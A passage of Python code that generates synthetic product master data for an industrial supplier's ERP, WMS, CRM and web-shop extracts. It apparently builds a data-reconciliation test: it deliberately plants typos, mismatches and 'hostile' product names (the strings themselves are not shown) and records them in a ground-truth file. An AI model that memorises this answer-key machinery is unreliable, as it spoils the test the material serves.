        _THREADS), 2, (0.03, 0.6), (0.005, 0.06), "EA", "BX", (100, 50)),
    _t("Fasteners > Washers > Flat Washers", "Hardware", "Flat Washer",
       ("SAE|USS|Fender", "Zinc Plated|18-8 Stainless Steel|Plain", '#8|#10|1/4"|5/16"|3/8"|1/2"|5/8"|3/4"'),
       2, (0.02, 0.4), (0.002, 0.03), "EA", "BX", (100, 50)),
    _t("Fasteners > Screws > Socket Head Cap Screws", "Hardware", "Socket Head Cap Screw",
       ("Alloy Steel|18-8 Stainless Steel", "Black Oxide|Plain", _THREADS, _LENGTHS), 3,
       (0.12, 2.5), (0.01, 0.15), "EA", "BX", (25, 50, 100)),
    _t("Fasteners > Screws > Self-Drilling Screws", "Hardware", "Self-Drilling Screw",
       ("Hex Washer Head|Phillips Pan Head|Phillips Flat Head", "Zinc Plated|Black Phosphate|410 Stainless",
        '#8|#10|#12|1/4"', '1/2" L|3/4" L|1" L|1-1/4" L|1-1/2" L|2" L|3" L'), 3,
       (0.03, 0.3), (0.002, 0.02), "EA", "BX", (100, 500, 1000)),
    _t("Fasteners > Anchors > Wedge Anchors", "Hardware", "Wedge Anchor",
       ("Zinc Plated Carbon Steel|304 Stainless Steel|Hot-Dip Galvanized", '1/4"|3/8"|1/2"|5/8"|3/4"',
        '2-1/4" L|3" L|3-3/4" L|4-1/2" L|5-1/2" L|7" L'), 2, (0.3, 4.5), (0.02, 0.4), "EA", "BX", (25, 50)),
    _t("Fasteners > Threaded Rod", "Hardware", "Fully Threaded Rod",
       ("Zinc Plated Low Carbon Steel|B7 Alloy Steel|18-8 Stainless Steel", _THREADS, "3 ft L|6 ft L|10 ft L|12 ft L"),
       1, (2.5, 45.0), (0.2, 6.0), "EA", "PK", (10, 5)),
    _t("Safety > Hand Protection > Disposable Gloves", "Safety", "Nitrile Disposable Gloves",
       ("4 mil|5 mil|6 mil|8 mil", "Blue|Black|Orange|Purple", "Powder-Free|Textured Fingertips",
        "Size S|Size M|Size L|Size XL|Size 2XL"), 3, (7.5, 24.0), (0.3, 0.9), "BX", "CS", (10,)),
    _t("Safety > Eye Protection > Safety Glasses", "Safety", "Safety Glasses",
       ("Black Frame|Clear Frame|Blue Frame|Frameless", "Clear Lens|Smoke Lens|Amber Lens|Indoor/Outdoor Mirror Lens|Gray Lens",
        "Anti-Fog|Anti-Scratch|Anti-Fog, Anti-Scratch"), 1, (2.0, 14.0), (0.02, 0.06), "EA", "CS", (12,)),
    _t("Safety > Protective Clothing > Hi-Vis Vests", "Safety", "Hi-Visibility Safety Vest",
       ("ANSI Class 2|ANSI Class 3", "Lime|Orange", "Mesh|Solid", "Size M|Size L|Size XL|Size 2XL|Size 3XL|Size 4XL"),
       3, (4.0, 28.0), (0.1, 0.3), "EA", "CS", (12, 25)),
    _t("Safety > Head Protection > Hard Hats", "Safety", "Hard Hat",
       ("Cap Style|Full Brim", "4-Point Ratchet Suspension|6-Point Ratchet Suspension",
        "White|Yellow|Blue|Red|Orange|Green|Hi-Vis Lime"), 2, (9.0, 38.0), (0.3, 0.5), "EA", "CS", (12, 20)),
    _t("Safety > Hearing Protection > Ear Plugs", "Safety", "Foam Ear Plugs",
       ("NRR 29 dB|NRR 32 dB|NRR 33 dB", "Corded|Uncorded"), 1, (18.0, 55.0), (0.3, 0.8), "BX", "CS", (10,)),
    _t("Safety > Hand Protection > Cut-Resistant Gloves", "Safety", "Cut-Resistant Gloves",
       ("ANSI A2|ANSI A4|ANSI A6|ANSI A9", "Polyurethane Palm|Nitrile Palm|Latex Palm",
        "Size S|Size M|Size L|Size XL|Size 2XL"), 2, (3.5, 22.0), (0.05, 0.12), "PR", "DZ", (12,)),
    _t("Electrical > Wire & Cable > Building Wire", "Electrical", "THHN Building Wire",
       ("14 AWG|12 AWG|10 AWG|8 AWG|6 AWG", "Solid|Stranded", "500 ft Reel|2500 ft Reel",
        "Black|White|Red|Green|Blue|Yellow|Orange"), 3, (45.0, 900.0), (3.0, 40.0), "RL", "CS", (1, 4)),
    _t("Electrical > Wire Management > Cable Ties", "Electrical", "Cable Ties",
       ("4 in|8 in|11 in|14 in|24 in", "18 lb|50 lb|120 lb|175 lb", "Black UV-Resistant|Natural",
        "Pack of 100|Pack of 500|Pack of 1000"), 3, (2.5, 65.0), (0.05, 1.5), "PK", "CS", (10, 12, 20)),
    _t("Electrical > Connectors > Twist-On Wire Connectors", "Electrical", "Twist-On Wire Connector",
       ("Standard|Wing|Waterproof", "Gray|Blue|Orange|Yellow|Red|Tan"), 1, (6.0, 40.0), (0.05, 0.5), "BX", "CS", (10, 12)),
    _t("Electrical > Lighting > High Bay Fixtures", "Electrical", "LED High Bay Light Fixture",
       ("4000K|5000K", "120-277V|347-480V", "100W|150W|200W|240W|300W"), 2, (95.0, 420.0), (2.5, 7.0), "EA", "CS", (1, 2)),
    _t("Electrical > Circuit Protection > Breakers", "Electrical", "Miniature Circuit Breaker",
       ("1-Pole|2-Pole|3-Pole", "Plug-On|Bolt-On|DIN Rail", "15A|20A|30A|40A|50A|60A"), 2,
       (9.0, 160.0), (0.1, 0.5), "EA", "CS", (6, 12)),
    _t("Electrical > Cords > Extension Cords", "Electrical", "Extension Cord",
       ("16/3 SJTW|14/3 SJTW|12/3 SJTW|10/3 SJOOW", "Orange|Yellow|Green|Blue", "25 ft|50 ft|100 ft"),
       2, (15.0, 180.0), (1.0, 9.0), "EA", "CS", (6, 4)),
    _t("Plumbing > Valves > Ball Valves", "Plumbing", "Brass Ball Valve",
       ("Full Port|Standard Port", "Threaded|Sweat|Press", "600 WOG|400 WOG",
        '1/4"|3/8"|1/2"|3/4"|1"|1-1/4"|1-1/2"|2"'), 3, (7.0, 140.0), (0.1, 2.5), "EA", "CS", (10, 12, 25)),
    _t("Plumbing > Pipe Fittings > PVC Fittings", "Plumbing", "PVC 90° Elbow",
       ("Schedule 40|Schedule 80", "Socket|Threaded|Socket x Threaded",
        '1/2"|3/4"|1"|1-1/4"|1-1/2"|2"|3"|4"'), 2, (0.4, 18.0), (0.01, 0.6), "EA", "BG", (10, 25, 50)),
    _t("Plumbing > Sealants > Thread Seal Tape", "Plumbing", "PTFE Thread Seal Tape",
       ('1/2" W|3/4" W|1" W', "Standard Density|High Density|Gas Line Yellow",
        '260" L|520" L|1296" L'), 2, (0.6, 6.5), (0.01, 0.05), "RL", "CS", (12, 25, 100)),
    _t("Tools > Power Tools > Drills", "Tools", "Cordless Drill/Driver",
       ("12V|18V|20V MAX", '3/8" Chuck|1/2" Chuck', "Brushless|Brushed",
        "Tool Only|Kit with 1 Battery|Kit with 2 Batteries"), 3, (79.0, 329.0), (1.0, 2.5), "EA", "CS", (1, 2)),
    _t("Tools > Hand Tools > Wrenches", "Tools", "Adjustable Wrench",
       ("Chrome Finish|Black Oxide Finish", "Cushion Grip|Standard Handle", '6" L|8" L|10" L|12" L|15" L|18" L'),
       2, (9.0, 55.0), (0.1, 1.3), "EA", "CS", (6, 12)),
    _t("Tools > Measuring > Tape Measures", "Tools", "Tape Measure",
       ('1" Blade|1-1/4" Blade', "ABS Case|Rubber Overmold Case", "16 ft|25 ft|30 ft|35 ft"), 2,
       (8.0, 42.0), (0.2, 0.7), "EA", "CS", (6, 12)),
    _t("Tools > Hand Tools > Screwdriver Sets", "Tools", "Screwdriver Set",
       ("Cushion Grip|Acetate Handle|Insulated 1000V", "6-Piece|8-Piece|10-Piece|14-Piece"), 1,
       (14.0, 120.0), (0.5, 1.8), "EA", "CS", (6, 4)),
    _t("Abrasives > Cut-Off Wheels", "Abrasives", "Cut-Off Wheel",
       ("Type 1|Type 27", "Aluminum Oxide|Zirconia|Ceramic", '.045" Thick|1/16" Thick|1/8" Thick',
        '4-1/2" Dia|5" Dia|6" Dia|7" Dia|9" Dia|14" Dia'), 3, (1.2, 14.0), (0.03, 0.9), "EA", "BX", (25, 50, 10)),
    _t("Abrasives > Flap Discs", "Abrasives", "Flap Disc",
       ("Type 27|Type 29", "Zirconia|Ceramic|Aluminum Oxide", '4-1/2" Dia|5" Dia|7" Dia',
        "40 Grit|60 Grit|80 Grit|120 Grit"), 3, (3.0, 16.0), (0.05, 0.3), "EA", "BX", (10,)),
    _t("Abrasives > Sanding Belts", "Abrasives", "Sanding Belt",
       ('1" x 30"|2" x 72"|4" x 36"|6" x 48"', "Aluminum Oxide|Zirconia|Silicon Carbide",
        "36 Grit|50 Grit|60 Grit|80 Grit|120 Grit|180 Grit"), 2, (1.0, 9.0), (0.02, 0.4), "EA", "BX", (10, 50)),
    _t("Chemicals > Adhesives > Threadlockers", "Chemicals", "Threadlocker",
       ("10 mL Bottle|50 mL Bottle|250 mL Bottle",
        "Blue Medium Strength|Red High Strength|Purple Low Strength|Green Wicking Grade"), 1,
       (8.0, 95.0), (0.02, 0.3), "EA", "CS", (10, 12)),
    _t("Chemicals > Sealants > Silicone", "Chemicals", "Silicone Sealant",
       ("100% Silicone|Siliconized Acrylic|High-Temp RTV", "10.1 oz Cartridge|2.8 oz Tube",
        "Clear|White|Black|Gray|Aluminum|Red"), 2, (4.0, 22.0), (0.1, 0.4), "EA", "CS", (12, 24)),
    _t("Chemicals > Lubricants > Grease", "Chemicals", "Multi-Purpose Grease",
       ("Lithium Complex|Calcium Sulfonate|Synthetic|Food Grade H1", "NLGI 2|NLGI 1",
        "14 oz Cartridge|35 lb Pail|120 lb Keg"), 2, (5.0, 420.0), (0.4, 55.0), "EA", "CS", (10, 40, 1)),
    _t("Chemicals > Lubricants > Penetrants", "Chemicals", "Penetrating Oil",
       ("Standard|Low-VOC|With PTFE", "11 oz Aerosol|1 gal Jug|5 gal Pail"), 1, (6.0, 180.0),
       (0.3, 18.0), "EA", "CS", (12, 4, 1)),
    _t("Janitorial > Trash Bags > Can Liners", "Janitorial", "Trash Can Liners",
       ("1.2 mil|1.5 mil|2 mil|High Density 16 mic", "Black|Clear",
        "33 gal|45 gal|55 gal|60 gal|95 gal"), 2, (22.0, 85.0), (3.0, 12.0), "CS", "PL", (40,)),
    _t("Janitorial > Paper Products > Paper Towels", "Janitorial", "Paper Towel Roll",
       ("Hardwound|Multifold|Center-Pull", "White|Natural Kraft", "350 ft|600 ft|800 ft|1000 ft"), 2,
       (1.8, 9.0), (0.4, 2.0), "RL", "CS", (6, 12)),
    _t("Cutting Tools > Drill Bits > Jobber Drills", "Cutting Tools", "Jobber Length Drill Bit",
       ("High-Speed Steel|Cobalt|Black Oxide HSS|TiN Coated HSS", "118° Point|135° Split Point",
        '1/16"|1/8"|3/16"|1/4"|5/16"|3/8"|7/16"|1/2"'), 2, (1.5, 28.0), (0.005, 0.15), "EA", "PK", (12, 6)),
    _t("Cutting Tools > End Mills > Carbide End Mills", "Cutting Tools", "Carbide End Mill",
       ("2-Flute|3-Flute|4-Flute", "Uncoated|TiAlN Coated|AlTiN Coated",
        '1/8" Dia|3/16" Dia|1/4" Dia|3/8" Dia|1/2" Dia|5/8" Dia|3/4" Dia|1" Dia'), 2,
       (18.0, 240.0), (0.01, 0.5), "EA", "PK", (1, 3)),
    _t("Power Transmission > Bearings > Ball Bearings", "Power Transmission", "Deep Groove Ball Bearing",
       ("2RS Sealed|ZZ Shielded|Open", "C3 Clearance|Standard Clearance",
        "6201|6202|6203|6204|6205|6206|6207|6208|6209|6210"), 2, (3.0, 48.0), (0.03, 0.6), "EA", "BX", (10, 20)),
    _t("Packaging > Stretch Film", "Packaging", "Stretch Wrap Film",
       ('12" W|18" W|20" W', "1500 ft L|1000 ft L|5000 ft L", "60 Gauge|70 Gauge|80 Gauge|90 Gauge"), 2,
       (14.0, 95.0), (1.5, 18.0), "RL", "CS", (4, 1)),
    _t("Packaging > Tape > Carton Sealing Tape", "Packaging", "Carton Sealing Tape",
       ('2" x 110 yd|3" x 110 yd|2" x 1000 yd', "1.9 mil|2.5 mil|3.1 mil", "Clear|Tan|Printed Fragile"),
       2, (1.4, 22.0), (0.2, 2.0), "RL", "CS", (36, 24, 6)),
    _t("HVAC > Air Filters > Pleated Filters", "HVAC", "Pleated Air Filter",
       ("MERV 8|MERV 11|MERV 13", '1" Deep|2" Deep|4" Deep',
        '16" x 20"|16" x 25"|20" x 20"|20" x 25"|24" x 24"|12" x 24"'), 2, (3.0, 28.0),
       (0.2, 1.4), "EA", "CS", (12, 6)),
    _t("Welding > Electrodes > Stick Electrodes", "Welding", "Stick Electrode E7018",
       ("10 lb Can|50 lb Can|5 lb Box", '3/32" Dia|1/8" Dia|5/32" Dia|3/16" Dia'), 1, (28.0, 260.0),
       (2.2, 23.0), "EA", "CS", (1, 4)),
    _t("Welding > Wire > MIG Wire", "Welding", "MIG Welding Wire ER70S-6",
       ("2 lb Spool|11 lb Spool|33 lb Spool|44 lb Spool", '.023" Dia|.030" Dia|.035" Dia|.045" Dia'), 1,
       (12.0, 190.0), (0.9, 20.0), "EA", "CS", (1, 6)),
    _t("Fluid Power > Hydraulic Fittings", "Fluid Power", "Hydraulic Hose Fitting",
       ("Male JIC|Female JIC Swivel|Male NPT|Female ORFS|Male ORB", "Crimp|Reusable",
        "Zinc Plated Steel|Stainless Steel|Brass", '1/4" Hose ID|3/8" Hose ID|1/2" Hose ID|3/4" Hose ID|1" Hose ID'),
       3, (2.5, 65.0), (0.03, 0.6), "EA", "BX", (10, 25)),
)
# Short manufacturer brands; full names and codes are derived below.
_BRANDS = _words(
    "Apex|Bolt-Rite|Keystone|NorthStar|ProGrip®|Titan|Ironclad|Summit|Redhawk|Bluestone|Granite|"
    "Vulcan|Atlas|Sentinel|Pioneer|Meridian|Crestline|Fairmont|Harbor|Lakeside|Midland|Eastwood|"
    "Westfield|Southgate|Ridgeway|Stonebridge|Falcon|Condor|Osprey|Mustang|Bison|Grizzly|Wolverine|"
    "Badger|Lynx|Cobra|Viper|Stinger|Arrowhead|Tomahawk|Longhorn|Liberty|Patriot|Heritage|Frontier|"
    "Mohawk|Cascade|Sierra|Glacier|Tundra|Dakota|Montana|Yukon|Müller Präzision|Kräftig|DuraLine®|"
    "ProFlow®|FlexTech|AccuCut|TruFit|MaxGrip|PowerPro|SafeGuard|ClearView|EverSeal|KwikTie|"
    "SureBond|ArmorCoat|SteelCore|BrightLite|VoltEdge|AirPure|WeldMaster|HydroPro|BearingWorks|"
    "PackRite|CleanPro|Señor Tools|Bélair",
    "|",
)
_MFR_TYPES = ("Tool Works, Inc.", "Industries, Inc.", "Manufacturing Co.", "Products, Inc.",
              "Corporation", "Safety Products LLC", "Fastening Systems", "Electric Co.", "Abrasives Inc.",
              "Brands LLC", "Fluid Power Inc.", "Supply Co.", "Technologies Corp.", "Mfg. Co.", "Group")
MANUFACTURERS = tuple(
    (brand, brand + (" GmbH" if brand in ("Müller Präzision", "Kräftig") else
                     " " + _MFR_TYPES[(k * 7) % len(_MFR_TYPES)]),
     "".join(ch for ch in brand.translate(_FOLD).upper() if ch.isalpha())[:3])
    for k, brand in enumerate(_BRANDS))
ERP_WORDS = {
    "Hex": "HX", "Head": "HD", "Screw": "SCR", "Cap": "CAP", "Grade": "GR", "Zinc": "ZN",
    "Plated": "PLTD", "Plain": "PLN", "Yellow": "YEL", "Stainless": "SS", "Steel": "STL",
    "Hot-Dip": "HD", "Galvanized": "GALV", "Flat": "FLT", "Washer": "WSHR", "Socket": "SKT",
    "Alloy": "ALY", "Black": "BLK", "Oxide": "OX", "Self-Drilling": "SD", "Phillips": "PH",
    "Wedge": "WDG", "Anchor": "ANCH", "Threaded": "THRD", "Fully": "FULL", "Nitrile": "NITR",
    "Disposable": "DISP", "Gloves": "GLV", "Safety": "SFTY", "Glasses": "GLS", "Clear": "CLR",
    "Smoke": "SMK", "Amber": "AMB", "Frame": "FRM", "Lens": "LNS", "Anti-Fog": "AF",
    "Anti-Scratch": "AS", "Hi-Visibility": "HIVIS", "Vest": "VST", "Class": "CL", "Orange": "ORG",
    "Ratchet": "RCHT", "Suspension": "SUSP", "Plugs": "PLG", "Corded": "CRD", "Uncorded": "UNCRD",
    "Cut-Resistant": "CUTRES", "Polyurethane": "PU", "Palm": "PLM", "Building": "BLDG",
    "Wire": "WR", "Stranded": "STRD", "Reel": "RL", "Cable": "CBL", "Ties": "TIE",
    "Natural": "NAT", "UV-Resistant": "UV", "Connector": "CONN", "Twist-On": "TWST",
    "Light": "LT", "Fixture": "FXT", "Miniature": "MINI", "Circuit": "CKT", "Breaker": "BRKR",
    "Extension": "EXT", "Cord": "CRD", "Brass": "BRS", "Valve": "VLV", "Port": "PT",
    "Sweat": "SWT", "Elbow": "ELL", "Schedule": "SCH", "Thread": "THD", "Seal": "SEAL",
    "Density": "DENS", "Cordless": "CDLS", "Drill/Driver": "DRL/DRV", "Chuck": "CHK",
    "Brushless": "BL", "Battery": "BATT", "Batteries": "BATT", "Adjustable": "ADJ",
    "Wrench": "WRN", "Chrome": "CHR", "Finish": "FIN", "Cushion": "CUSH", "Measure": "MEAS",
    "Blade": "BLD", "Screwdriver": "SCRDRV", "Cut-Off": "CUTOFF", "Wheel": "WHL",
    "Aluminum": "ALUM", "Zirconia": "ZIRC", "Ceramic": "CER", "Thick": "THK", "Disc": "DSC",
    "Sanding": "SAND", "Belt": "BLT", "Grit": "GR", "Threadlocker": "THRDLKR", "Medium": "MED",
    "Strength": "STR", "Bottle": "BTL", "Silicone": "SIL", "Sealant": "SLNT",
    "Cartridge": "CART", "Multi-Purpose": "MP", "Grease": "GRS", "Lithium": "LITH",
    "Complex": "CPLX", "Penetrating": "PENE", "Aerosol": "AERO", "Trash": "TRSH", "Liners": "LNR",
    "Paper": "PPR", "Towel": "TWL", "Roll": "RL", "Hardwound": "HW", "Jobber": "JBR",
    "Length": "LG", "Drill": "DRL", "Bit": "BIT", "Cobalt": "COB", "Split": "SPLT", "Point": "PT",
    "Carbide": "CARB", "Mill": "MILL", "Coated": "CTD", "Deep": "DP", "Groove": "GRV",
    "Bearing": "BRG", "Sealed": "SLD", "Shielded": "SHLD", "Clearance": "CLR", "Stretch": "STRCH",
    "Wrap": "WRP", "Film": "FLM", "Gauge": "GA", "Carton": "CTN", "Sealing": "SEAL",
    "Printed": "PRT", "Fragile": "FRAG", "Pleated": "PLTD", "Filter": "FLTR", "Stick": "STK",
    "Electrode": "ELCTD", "Welding": "WLD", "Spool": "SPL", "Hydraulic": "HYD", "Hose": "HSE",
    "Fitting": "FTG", "Male": "M", "Female": "F", "Swivel": "SWVL", "Crimp": "CRMP",
    "Reusable": "REUS", "Pack": "PK", "Size": "SZ", "Standard": "STD", "Powder-Free": "PF",
    "Textured": "TXT", "Fingertips": "FT", "Mirror": "MIR", "Indoor/Outdoor": "I/O",
    "Frameless": "FRMLS", "Solid": "SOL", "Mesh": "MSH", "Full": "FULL", "Brim": "BRM",
    "Style": "", "of": "", "Waterproof": "WP", "Carbon": "CS", "Low": "LO", "High": "HI",
    "Food": "FD", "Synthetic": "SYN", "Calcium": "CA", "Sulfonate": "SULF", "Jug": "JUG",
    "Pail": "PL", "Keg": "KEG", "Center-Pull": "CP", "Kraft": "KFT", "Multifold": "MF",
    "Rubber": "RBR", "Overmold": "OVM", "Case": "CS", "Insulated": "INSUL", "Handle": "HDL",
    "Acetate": "ACET", "Silicon": "SIL", "Carbide,": "CARB", "Tube": "TB", "Gray": "GRY",
}
CRM_FAMILY_ALIASES = {"Hardware": ("Hardware", "Fasteners"), "Fluid Power": ("Fluid Power", "Hydraulics")}
DESCRIPTION_USES = (
    "maintenance, repair and operations (MRO)", "plant maintenance crews", "construction jobsites",
    "fleet and vehicle service", "facility managers", "OEM assembly lines", "contractors and installers",
    "food and beverage plants", "oil and gas field service", "general industrial use")
DESCRIPTION_CLAIMS = (
    "Built to spec and inspected lot by lot.", "Meets or exceeds applicable ANSI/ASTM standards.",
    "Consistent quality — order after order.", "Backed by the manufacturer's limited warranty.",
    "Ships from stock; bulk packs available.", "RoHS compliant.", "Made in USA of domestic and imported parts.")

# --------------------------------------------------------------------------- #
# Small deterministic helpers
# --------------------------------------------------------------------------- #

EPOCH = date(2018, 1, 1)
REF_DATE = date(2025, 6, 30)  # "today" of the extracts; fixed so the output is reproducible
N_DAYS = (REF_DATE - EPOCH).days + 1
_DAYS = tuple((EPOCH + timedelta(days=d)).isoformat() for d in range(N_DAYS + 800))
REF_SEC = (N_DAYS - 1) * 86400 + 18 * 3600


# Pre-formatted pieces: timestamps are the most frequent values written.
_DAY_SPACE = tuple(d + " " for d in _DAYS)
_DAY_T = tuple(d + "T" for d in _DAYS)
_HH_MM = tuple(f"{m // 60:02d}:{m % 60:02d}" for m in range(1440))
_COLON_SS = tuple(f":{s:02d}" for s in range(60))


def _ts(sec: int) -> str:
    """``YYYY-MM-DD HH:MM:SS`` of seconds since EPOCH, clamped to the extract's date range."""
    d, rem = divmod(min(max(sec, 0), REF_SEC), 86400)
    m, s = divmod(rem, 60)
    return _DAY_SPACE[d] + _HH_MM[m] + _COLON_SS[s]


def _sf_ts(sec: int) -> str:
    """Salesforce's ``YYYY-MM-DDTHH:MM:SS.000+0000``."""
    d, rem = divmod(min(max(sec, 0), REF_SEC), 86400)
    m, s = divmod(rem, 60)
    return _DAY_T[d] + _HH_MM[m] + _COLON_SS[s] + ".000+0000"


_B62 = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
_SF_SUFFIX = "ABCDEFGHIJKLMNOPQRSTUVWXYZ012345"


_B62_PAIRS = tuple(a + b for a in _B62 for b in _B62)
_UPPER_BITS = str.maketrans({c: "1" if "A" <= c <= "Z" else "0" for c in _B62})


def salesforce_id(prefix: str, n: int) -> str:
    """An 18-character Salesforce-style ID (with its case-safe checksum) for a number."""
    hi, lo = divmod(n, 3844)
    top, mid = divmod(hi, 3844)
    body = prefix + "5g0000" + _B62_PAIRS[top % 3844] + _B62_PAIRS[mid] + _B62_PAIRS[lo]
    # the checksum: per 5-character chunk, a bit per upper-case letter, lowest bit first
    bits = body.translate(_UPPER_BITS)
    return (body + _SF_SUFFIX[int(bits[4::-1], 2)] + _SF_SUFFIX[int(bits[9:4:-1], 2)]
            + _SF_SUFFIX[int(bits[14:9:-1], 2)])


def gtin_check_digit(body: str) -> int:
    """GS1 mod-10 check digit of a GTIN body (all digits but the last)."""
    odd = sum(map(int, body[-1::-2]))
    even = sum(map(int, body[-2::-2]))
    return (10 - (odd * 3 + even) % 10) % 10


def gtin_is_valid(code: str) -> bool:
    """A GTIN-8/12/13/14 with the right check digit."""
    return code.isdigit() and len(code) in (8, 12, 13, 14) and gtin_check_digit(code[:-1]) == int(code[-1])


def erp_customer_no(i: int, dup: int = 0) -> str:
    return str(100000 + 2 * i + dup)


def crm_account_id(i: int, dup: int = 0) -> str:
    return salesforce_id("001", 4 * i + dup)


def ecom_account_id(i: int, dup: int = 0) -> str:
    return str(700000 + 3 * i + dup)


def erp_item_no(i: int, dup: int = 0) -> str:
    return str(200000 + 2 * i + dup)


def ecom_sku(i: int) -> str:
    return f"S{500000 + i}"


def crm_product_code(i: int, flags: int) -> str:
    return erp_item_no(i) if flags & _P_CRM_CODE_IS_ERP else f"PC-{i:07d}"


def customer_key(i: int) -> str:
    return f"C{i + 1:07d}"


def product_key(i: int) -> str:
    return f"P{i + 1:07d}"


@lru_cache(maxsize=4096)
def _erp_abbr(text: str) -> str:
    out = []
    for word in text.split():
        short = ERP_WORDS.get(word.rstrip(","), None)
        if short is None:
            out.append(word.rstrip(",").upper())
        elif short:
            out.append(short)
    return " ".join(out)


def _typo(r: Callable[[], float], s: str) -> str:
    """One keyboard slip: transposed, dropped, doubled or neighbouring letter."""
    n = len(s)
    if n < 5:
        return s
    i = 1 + int(r() * (n - 3))
    a, b = s[i], s[i + 1]
    if not (a.isalpha() and b.isalpha()):
        return s
    k = r()
    if k < 0.4:
        return s[:i] + b + a + s[i + 2:]
    if k < 0.7:
        return s[:i] + s[i + 1:]
    if k < 0.85:
        return s[:i] + a + s[i:]
    near = _NEIGHBOURS.get(a.lower())
    if not near:
        return s[:i] + s[i + 1:]
    c = near[int(r() * len(near))]
    return s[:i] + (c.upper() if a.isupper() else c) + s[i + 1:]


_ROWS = ("qwertyuiop", "asdfghjkl", "zxcvbnm")
_NEIGHBOURS = {}
for _row in _ROWS:
    for _col, _ch in enumerate(_row):
        _n = [_row[j] for j in (_col - 1, _col + 1) if 0 <= j < len(_row)]
        _NEIGHBOURS[_ch] = "".join(_n)


_NOT_ALNUM = re.compile(r"[^a-z0-9]")


def _ascii_fold(s: str) -> str:
    return s.translate(_FOLD)


# --------------------------------------------------------------------------- #
# Per-block output buffers
# --------------------------------------------------------------------------- #


class _Sink:
    """Rows of one block for each file, rendered to bytes at the end of the block."""

    def __init__(self, specs: Iterable[FileSpec]):
        self.rows: dict[str, list] = {spec.name: [] for spec in specs}
        self.planted: dict[str, int] = {}

    def plant(self, issue: str, n: int = 1) -> None:
        self.planted[issue] = self.planted.get(issue, 0) + n

    def render(self) -> dict[str, tuple[int, bytes]]:
        out = {}
        for name, rows in self.rows.items():
            spec = _SPECS[name]
            if spec.fmt == "csv":
                buf = io.StringIO()
                csv.writer(buf, lineterminator=spec.newline).writerows(rows)
                text = buf.getvalue()
            else:
                text = "".join(rows)
            # strict: a character the declared encoding cannot hold is a generator bug
            out[name] = (len(rows), text.encode(spec.encoding))
        return out


_SPECS = {spec.name: spec for spec in ALL_FILES}
_json = json.JSONEncoder(ensure_ascii=False, check_circular=False, separators=(", ", ": ")).encode


def _jsonl(obj: dict) -> str:
    return _json(obj) + "\n"


@dataclass
class _BlockResult:
    data: dict[str, tuple[int, bytes]]
    planted: dict[str, int]
    state: Any = None


# --------------------------------------------------------------------------- #
# Products
# --------------------------------------------------------------------------- #

_P_IN_CRM = 1
_P_CRM_CODE_IS_ERP = 2
_P_IN_ECOM = 4
UOMS = ("EA", "CS", "BX", "PK", "RL", "PR", "DZ", "BG", "PL")
_UOM_INDEX = {u: k for k, u in enumerate(UOMS)}


@dataclass
class ProductState:
    """What the price phase needs to know of every product, in a few bytes each."""

    flags: bytearray = field(default_factory=bytearray)
    pack_qty: array = field(default_factory=lambda: array("H"))
    # list price per base unit × 10,000: fasteners cost fractions of a cent
    list_price_x10k: array = field(default_factory=lambda: array("I"))
    base_uom: bytearray = field(default_factory=bytearray)
    pack_uom: bytearray = field(default_factory=bytearray)
    crm: array = field(default_factory=lambda: array("I"))  # indexes of products the CRM knows

    def extend(self, other: ProductState) -> None:
        self.flags += other.flags
        self.pack_qty.extend(other.pack_qty)
        self.list_price_x10k.extend(other.list_price_x10k)
        self.base_uom += other.base_uom
        self.pack_uom += other.pack_uom
        self.crm.extend(other.crm)

    def __len__(self) -> int:
        return len(self.flags)


def _mpn(style: int, code: str, family: int, v: int) -> str:
    family += 104729  # part numbers with leading zeros only are rare; keep the digits busy
    if style == 0:
        return f"{code}-{family:06d}-{v:02d}"
    if style == 1:
        return f"{family:07d}{v:02d}"
    if style == 2:
        return f"{code}{family:06d}{chr(65 + v)}"
    if style == 3:
        return f"{family // 1000:04d}-{family % 1000:03d}-{v:02d}"
    return f"{code[:2]}{family:07d}/{v}"


def _gtin12(mfr: int, i: int) -> str:
    # number system digit + 5-digit company number per (manufacturer, 100k block) + item ref:
    # unique for up to MAX_PRODUCTS products with a realistic per-manufacturer prefix
    body = f"{'0678'[mfr % 4]}{10000 + mfr * 50 + i // 100000:05d}{i % 100000:05d}"
    return body + str(gtin_check_digit(body))


_ACTIVE = 0.93  # share of active items; the rest obsolete (70 %) or discontinued


def _money(x: float) -> str:
    return f"{x:.4f}" if x < 1 else f"{x:.2f}"


def _product_block(task: tuple[int, int, int, int]) -> _BlockResult:
    seed, block_no, start, end = task
    rng = random.Random(f"{seed}:products:{block_no}")
    r = rng.random
    sink = _Sink(PRODUCT_PHASE_FILES)
    erp_rows = sink.rows[ERP_ITEMS.name]
    wms_rows = sink.rows[WMS_ITEMS.name]
    eco_rows = sink.rows[ECOM_CATALOG.name]
    crm_rows = sink.rows[CRM_PRODUCTS.name]
    web_rows = sink.rows[ECOM_PRICES.name]
    gt = sink.rows[GROUND_TRUTH.name]
    state = ProductState()
    bad = RATES["bad_row"]
    n_hostile = max(1, round((end - start) * RATES["hostile_name"]))
    hostile_at = set(rng.sample(range(start, end), min(n_hostile, end - start)))
    hostile_pending = False  # carried to the next product the web shop lists
    n_mfr = len(MANUFACTURERS)
    # Obsolete items are rarer in the WMS, discontinued ones gone from the web shop
    # and only active ones in the CRM; scaled so each system's overall share holds.
    p_wms = RATES["product_in_wms"] / (_ACTIVE + (1 - _ACTIVE) * 0.4)
    p_ecom = RATES["product_in_ecom"] / (1 - (1 - _ACTIVE) * 0.3)
    p_crm = RATES["product_in_crm"] / _ACTIVE

    i = start
    while i < end:
        tpl = TEMPLATES[int(r() * len(TEMPLATES))]
        m = int(r() * n_mfr)
        brand, mfr_full, mfr_code = MANUFACTURERS[m]
        style = m % 5
        fixed = [d[int(r() * len(d))] for d in tpl.dims]
        values = tpl.dims[tpl.vary]
        size = min(len(values), 1 + int(-math.log(1.0 - r()) * 1.6), end - i)
        first = int(r() * (len(values) - size + 1))
        pack = tpl.packs[int(r() * len(tpl.packs))]
        price0 = tpl.price[0] + (tpl.price[1] - tpl.price[0]) * r() * r()
        kg0 = tpl.kg[0] + (tpl.kg[1] - tpl.kg[0]) * r()
        status = "A" if r() < _ACTIVE else ("O" if r() < 0.7 else "D")
        ts_family = int(r() * (REF_SEC - 86400 * 30))
        family = i
        for v in range(first, first + size):
            attrs = list(fixed)
            attrs[tpl.vary] = values[v]
            growth = 1.0 + 0.22 * (v - first)
            price = round(price0 * growth, 2 if price0 >= 1 else 4)
            kg = kg0 * growth
            title = tpl.name + ", " + ", ".join(attrs)
